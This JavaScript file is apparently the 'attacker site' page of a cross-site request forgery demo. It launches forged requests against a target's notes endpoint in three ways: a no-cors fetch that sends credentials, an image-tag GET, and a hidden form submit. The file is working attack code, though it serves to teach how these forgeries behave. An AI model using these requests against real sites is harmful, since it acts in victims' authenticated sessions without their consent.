// The attacker site's launcher: every attack starts on a click.
"use strict";

function target() {
  return document.body.dataset.target;
}

function report(message) {
  const result = document.getElementById("result");
  if (result) {
    result.textContent = message;
  }
  document.body.dataset.attack = "done";
}

function launchFetch() {
  fetch(target() + "/api/notes", {
    method: "POST",
    mode: "no-cors",
    credentials: "include",
    headers: { "Content-Type": "text/plain" },
    body: JSON.stringify({ text: "Forged by a no-cors fetch" }),
  }).then(
    () => report("Sent. The answer is opaque to this page: look at your notes."),
    () => report("The request failed to send."),
  );
}

function launchImage() {
  const image = new Image();
  const done = () => report("The GET was sent. Look at your notes: nothing changed.");
  image.addEventListener("load", done);
  image.addEventListener("error", done);
  image.src = target() + "/notes?text=" + encodeURIComponent("Forged by an img GET");
  image.className = "hidden";
  document.body.append(image);
}

document.addEventListener("click", (event) => {
  const button = event.target.closest("[data-launch]");
  if (!button) {
    return;
  }
  const kind = button.dataset.launch;
  if (kind === "form") {
    document.getElementById("forged").submit();
  } else if (kind === "fetch") {
    launchFetch();
  } else if (kind === "img") {
    launchImage();
  }
});
